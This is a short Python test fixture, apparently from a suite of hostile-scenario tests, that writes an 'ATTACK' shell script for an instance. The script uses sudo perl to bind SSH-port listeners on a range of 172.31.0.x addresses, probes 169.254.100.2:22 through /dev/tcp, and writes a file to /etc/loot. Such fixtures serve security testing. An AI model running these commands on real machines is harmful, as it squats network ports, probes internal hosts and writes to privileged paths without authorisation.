from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import on_an_instance, written

if TYPE_CHECKING:
    from pathlib import Path


ATTACK = r"""
sudo perl -MIO::Socket::INET -e 'for (4..12) { push @s, IO::Socket::INET->new(LocalAddr => "172.31.0.$_", LocalPort => 22, Listen => 5, ReuseAddr => 1) } fork and exit; sleep 60' </dev/null >/dev/null 2>&1
timeout 1 bash -c 'echo > /dev/tcp/169.254.100.2/22' 2>/dev/null && echo box | sudo tee /etc/loot
true
"""


def make(folder: Path) -> Path:
    return written(folder, on_an_instance(ATTACK))
